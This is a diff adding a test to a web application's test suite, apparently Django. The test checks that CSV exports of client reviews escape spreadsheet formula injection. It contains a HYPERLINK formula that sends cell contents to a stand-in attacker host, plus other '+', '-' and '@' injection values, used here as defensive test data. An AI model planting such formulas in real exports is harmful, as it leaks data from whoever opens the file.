@@ -188,6 +188,20 @@ class TestPrintAndExport:
         assert data["snapshot"]["kpis"][1]["key"] == "orders"
         assert data["action_items"][0]["title"] == "Call IT" and data["action_items"][0]["is_assigned"] is True
 
+    def test_csv_export_neutralises_a_formula_in_the_client_name_and_id(self, client, am_alice, quarter_data):
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+        review = held_review(quarter_data, am_alice, issues="-1+2", next_quarter_plan="@SUM(A1)")
+        review.client.name, review.client.external_id = formula, "+CMD-1"
+        review.client.save(update_fields=["name", "external_id"])
+        client.force_login(am_alice)
+        response = client.get(reverse("reviews:export_csv", args=[review.pk]))
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        assert ["review", "client", "'" + formula, "", "", "", "'+CMD-1"] in rows
+        assert ["outcome", "issues", "'-1+2", "", "", "", ""] in rows
+        assert ["outcome", "next_quarter_plan", "'@SUM(A1)", "", "", "", ""] in rows
+        orders = next(r for r in rows if r[:2] == ["kpi", "Orders"])
+        assert orders[2:5] == ["1104.0", "910.0", "21.3"]  # numbers stay numbers
+
 
 class TestOverview:
     def test_statuses_counts_filters_and_key_accounts_first(self, client, am_alice, am_bob, lead_lena):
